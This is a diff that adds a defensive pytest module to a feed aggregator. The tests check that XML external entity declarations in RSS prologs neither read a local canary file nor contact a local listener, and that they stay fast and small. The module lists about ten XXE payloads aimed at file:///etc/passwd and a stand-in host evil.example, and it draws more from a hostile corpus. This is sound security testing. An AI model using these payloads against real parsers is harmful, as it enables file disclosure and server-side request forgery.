@@ -1,0 +1,97 @@
+"""External entities, in whatever dress: no file is read, nobody is asked, and nothing grows."""
+
+import re
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from aggregator.errors import ParseError
+from aggregator.model import Job, Worked
+from aggregator.pipeline import recipe_of
+from aggregator.workers import work
+from tests.given import NOON
+from tests.hostile.payloads import HOSTILE
+from tests.line.line import plain
+from tests.running import Origin, origin
+
+CANARY = "the content of a file of this machine"
+ORIGIN = plain("origin")
+
+OWN = (
+    '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+    '<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X" "http://evil.example/x">]>',
+    '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">',
+    '<!DOCTYPE rss PUBLIC "-//X" "http://evil.example/x.dtd" [<!ENTITY x "y">]>',
+    '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
+    '<!DOCTYPE rss [<!ENTITY x SYSTEM "http://evil.example/x.gif" NDATA gif>]>',
+    '<!DOCTYPE rss [<!ATTLIST title href CDATA "http://evil.example/x">]>',
+    '<!DOCTYPE rss [<!NOTATION x SYSTEM "file:///etc/passwd">]>',
+    '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>',
+    '<?xml-stylesheet href="file:///etc/passwd" type="text/css"?>',
+)
+
+
+@pytest.fixture(scope="module")
+def listener() -> Iterator[Origin]:
+    with origin() as listening:
+        listening.documents["/"] = CANARY.encode()
+        yield listening
+
+
+def prologs() -> list[str]:
+    """Our own, and all of the corpus that declare anything."""
+    found = list(OWN)
+    for path in sorted(HOSTILE.glob("payloads/xxe/**/*")):
+        if path.is_file():
+            text = path.read_text(encoding="utf-8", errors="replace")
+            lines = text.splitlines() if path.suffix == ".txt" else [text]
+            found += [line for line in lines if "<!" in line and "ENTITY" in line]
+    return found
+
+
+def aimed(prolog: str, canary: Path, listener: Origin) -> str:
+    """The same attack on a file and a server of ours."""
+    prolog = re.sub(r"<\?xml[^>]*\?>", "", prolog)
+    prolog = re.sub(r"(?:php|expect|file|jar|gopher|ftp|netdoc):/*[^\s\"'>]+", canary.as_uri(), prolog)
+    return re.sub(r"https?://[^\s\"'>]+", listener.url("/"), prolog)
+
+
+def said(prolog: str) -> str:
+    """A feed behind the prolog that uses every entity it names, in texts and in attributes."""
+    names = dict.fromkeys(re.findall(r"<!ENTITY\s+(?:%\s+)?([^\s%]+)", prolog))
+    used = " ".join(f"&{name};" for name in names) or "nothing"
+    return (
+        f"<?xml version='1.0'?>{prolog}<rss version='2.0'><channel><title>Feed {used}</title>"
+        f"<item><title>Release {used}</title><link>https://origin.example/1</link><guid>{used}</guid>"
+        f"<description>{used}</description><enclosure url='https://origin.example/{used}' type='a/b'/></item>"
+        "</channel></rss>"
+    )
+
+
+def reads(body: str) -> Worked | ParseError:
+    job = Job(body.encode(), "application/xml", ORIGIN.feed, ORIGIN, frozenset(), recipe_of(ORIGIN), NOON)
+    try:
+        return work(job)
+    except ParseError as error:
+        return error
+
+
+@pytest.mark.needs("corpus")
+def test_no_entity_reads_a_file_or_asks_anybody_or_costs_more_than_its_bytes(
+    tmp_path: Path, listener: Origin
+) -> None:
+    canary = tmp_path / "passwd"
+    canary.write_text(CANARY)
+    tried = [aimed(prolog, canary, listener) for prolog in prologs()]
+    assert len(tried) > 40
+    for prolog in tried:
+        # A prolog of its own, and the attack as it stands in the lists: with a root and texts behind it.
+        for body in (said(prolog), said(re.sub(r"\]>.*", "]>", prolog, flags=re.DOTALL)), prolog):
+            started = time.monotonic()
+            answer = reads(body)
+            assert time.monotonic() - started < 2, prolog
+            assert CANARY not in repr(answer), prolog
+            assert len(repr(answer)) < 20_000, prolog
+    assert listener.asked == []
